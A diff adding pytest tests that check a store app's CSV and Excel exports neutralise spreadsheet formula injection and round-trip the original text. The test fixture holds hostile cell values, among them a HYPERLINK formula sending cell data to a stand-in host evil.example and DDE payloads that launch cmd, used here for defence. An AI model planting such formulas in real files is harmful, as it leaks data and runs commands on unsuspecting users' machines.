@@ -2,12 +2,16 @@
 
 from __future__ import annotations
 
+import csv
+import io
+import zipfile
 from pathlib import Path
 
 import pytest
 from openpyxl import Workbook, load_workbook
 
 from app.store.service import Store
+from app.store.sheets import neutralise, restore
 from app.store.transfer import ImportFailed, export_file, import_file
 
 HEADER = "id,name,credit_code,phone,email,address,industry,owner\n"
@@ -171,3 +175,75 @@ def test_export_deals_and_followups(store: Store, tmp_path: Path, customer_id: s
     assert export_file(store, "followup", tmp_path / "f.csv") == 1
     text = (tmp_path / "f.csv").read_text("utf-8-sig")
     assert "客户认可样板间方案" in text and "zhangwei" in text  # author shown by name
+
+
+# ---- formula injection (exports are opened in Excel by people who did not write them) ----
+FORMULAS = {
+    "name": '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
+    "notes": "+cmd|' /C calc'!A0",
+    "industry": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "address": "-2+3",
+    "region": "'=已带引号的文本",
+    "source": "=1+1",
+}
+
+
+def _sheet_cells(path: Path) -> list[list[object]]:
+    return [[c.value for c in r] for r in load_workbook(path).worksheets[0].iter_rows()]
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_formula_text_is_exported_inert_and_reimported_exactly(
+    store: Store, tmp_path: Path, suffix: str
+) -> None:
+    cid = store.create("customer", {**FORMULAS, "owner": "u-rep"})
+    plain = store.create("customer", {"name": "普通客户有限公司", "notes": "-5", "owner": "u-rep"})
+    out = tmp_path / f"out{suffix}"
+    assert export_file(store, "customer", out) == 2
+    if suffix == ".csv":
+        rows = list(csv.reader(io.StringIO(out.read_text("utf-8-sig"), newline="")))
+        cells = [c for row in rows[1:] for c in row]
+        dangerous = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
+        assert dangerous == []
+        assert "'" + FORMULAS["name"] in cells and "'-2+3" in cells
+        assert "''=已带引号的文本" in cells
+        assert "-5" in cells  # a plain number stays a number
+    else:
+        with zipfile.ZipFile(out) as z:
+            sheet = z.read("xl/worksheets/sheet1.xml").decode()
+        assert "<f>" not in sheet and "<f " not in sheet
+        wb = load_workbook(out)
+        assert all(c.data_type != "f" for row in wb.worksheets[0].iter_rows() for c in row)
+        assert FORMULAS["name"] in [c for row in _sheet_cells(out) for c in row]
+    before = store.pending_count()
+    result = import_file(store, "customer", out)
+    assert (result.created, result.updated, result.unchanged) == (0, 0, 2)
+    assert store.pending_count() == before
+    row = store.require("customer", cid)
+    assert {k: row[k] for k in FORMULAS} == FORMULAS
+    assert store.require("customer", plain)["notes"] == "-5"
+
+
+def test_numbers_stay_numbers_in_exports(store: Store, tmp_path: Path, customer_id: str) -> None:
+    store.create("lead", {"name": "王芳", "company": "展会客户有限公司", "score": 85})
+    store.create("deal", {"customer_id": customer_id, "title": "样板间", "amount": "120000.50"})
+    export_file(store, "lead", tmp_path / "l.xlsx")
+    export_file(store, "deal", tmp_path / "d.xlsx")
+    export_file(store, "lead", tmp_path / "l.csv")
+    leads = _sheet_cells(tmp_path / "l.xlsx")
+    assert leads[1][leads[0].index("score")] == 85
+    deals = _sheet_cells(tmp_path / "d.xlsx")
+    assert deals[1][deals[0].index("amount")] == 120000.5
+    assert deals[1][deals[0].index("id")] == deals[1][0] and isinstance(deals[1][0], str)
+    rows = list(csv.reader(io.StringIO((tmp_path / "l.csv").read_text("utf-8-sig"))))
+    assert rows[1][rows[0].index("score")] == "85"
+    # The export of leads imports back unchanged, the score included.
+    result = import_file(store, "lead", tmp_path / "l.xlsx")
+    assert (result.created, result.updated, result.unchanged) == (0, 0, 1)
+
+
+def test_neutralise_is_undone_by_restore() -> None:
+    for text in ("=1+1", "+1", "-2+3", "@x", "\t=1", "\r=1", "'=x", "''-y", "'5", "x", "", "-5"):
+        assert restore(neutralise(text)) == text
+        assert neutralise(text)[:1] not in ("=", "+", "@", "\t", "\r")
+    assert neutralise("-12.5") == "-12.5" and neutralise("-1e3") == "'-1e3"
